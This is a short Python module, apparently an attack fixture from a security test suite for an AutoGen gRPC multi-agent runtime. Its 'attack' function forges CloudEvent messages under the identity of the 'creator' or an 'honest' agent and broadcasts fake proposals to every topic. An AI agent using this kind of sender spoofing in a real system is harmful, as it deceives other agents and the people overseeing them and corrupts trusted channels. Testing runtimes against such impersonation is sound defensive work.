"""Publish events in the name of others, to every topic that somebody might listen to."""

REFUSED = "topic|publish|sender"


async def attack(agent, message, ctx, targets):
    import uuid

    from autogen_ext.runtimes.grpc.protos import agent_worker_pb2 as pb
    from autogen_ext.runtimes.grpc.protos import cloudevent_pb2

    for topic in ("creator:", "registry:", f"{targets['honest']}:", "news", "", f"{agent.id.type}:"):
        for sender in ("creator", targets["honest"], ""):
            event = cloudevent_pb2.CloudEvent(id=uuid.uuid4().hex, spec_version="1.0", type=topic, source="default")
            event.attributes["agagentsendertype"].ce_string = sender
            event.attributes["agagentsenderkey"].ce_string = "default"
            event.attributes["datacontenttype"].ce_string = "application/json"
            event.attributes["dataschema"].ce_string = "Proposal"
            event.binary_data = forged_idea()
            await connection(agent).send(pb.Message(cloudEvent=event))
